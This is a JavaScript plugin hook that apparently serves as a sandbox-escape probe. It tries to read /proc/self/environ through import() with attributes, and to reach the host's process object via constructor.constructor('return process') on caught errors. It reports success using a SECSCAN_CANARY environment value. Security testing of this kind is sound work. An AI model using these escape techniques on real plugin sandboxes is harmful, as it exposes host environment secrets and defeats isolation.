// import() with attributes reads what is no code.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    for (const type of ['json', 'text', 'bytes', 'css']) {
      try {
        const { default: text } = await import('/proc/self/environ', { with: { type } });
        got.push(String(text));
      } catch (error) {
        look(error);
      }
      try {
        await import('x', {
          get with() {
            look(this);
            return { type };
          },
        });
      } catch (error) {
        look(error);
      }
    }
    return { metadata: verdict() };
  },
};
